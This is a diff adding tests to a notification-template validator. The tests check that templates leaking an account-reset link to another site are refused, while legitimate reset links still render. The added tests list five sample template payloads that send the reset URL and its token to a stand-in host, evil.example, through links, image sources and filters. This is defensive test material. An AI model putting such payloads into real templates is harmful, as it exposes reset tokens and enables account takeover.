@@ -108,3 +108,33 @@ test('a kind has its own values', () => {
   expect(validate('{% messages %}', 'chatTranscript')).not.toThrow()
   expect(validate('{{ order.number }}', 'chatTranscript')).toThrow()
 })
+
+const account = sampleValues('en', 'accountReset')
+const secret = account.link?.url ?? ''
+
+test.each([
+  '<a href="https://evil.example/?{{ link.url }}">Go</a>',
+  '<p>https://evil.example/?{{ link.url }}</p>',
+  '<img src="https://evil.example/?{{ link.url | url_encode }}">',
+  '<img src="https://evil.example/?{{ link.url | split: "token=" | last }}">',
+  '{% button "Go", "https://evil.example/?" | append: link.url %}',
+])('%s does not reveal the link of an account to another site', (body) => {
+  const { text, html } = render(`${body}{% button "Reset", link.url %}`, account, '{{ link.url }}')
+  expect(text.split('token=sample')).toHaveLength(2)
+  expect(html.split('token=sample')).toHaveLength(2)
+  expect(html).toContain(`class="button" href="${secret}"`)
+  expect(fieldsRefusedBy(validate(body, 'accountReset'))).toMatchObject({
+    body: { code: 'NOTIFICATION_LINK_MISSING' },
+  })
+})
+
+test.each([
+  '<a href="{{ link.url }}">Reset</a>',
+  '<p>Open {{ link.url }}.</p>',
+  '{% button "Reset", link.url %}',
+])('%s contains the link of an account', (body) => {
+  const { text, html } = render(body, account)
+  expect(text).toContain(secret)
+  expect(html).toContain(secret)
+  expect(validate(body, 'accountReset')).not.toThrow()
+})
